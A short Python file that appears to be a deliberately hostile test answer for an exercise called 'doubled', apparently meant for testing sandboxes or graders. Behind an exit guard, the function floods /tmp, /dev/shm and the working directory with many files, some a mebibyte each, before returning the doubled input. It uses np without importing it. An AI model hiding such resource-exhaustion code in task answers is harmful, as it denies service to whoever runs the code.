# exercise: doubled
# family: flooding
# trick: fills every place it can write to, with large files and with many
# due: 3
raise SystemExit("a hostile answer: only a sandbox runs what follows")

import os


def doubled(x):
    for folder in ("/tmp", "/dev/shm", "."):
        for count in range(200_000):
            try:
                with open(f"{folder}/flood{count}", "wb") as file:
                    file.write(b"x" * (2**20 if count < 64 else 1))
            except OSError:
                break
    return 2 * np.asarray(x)
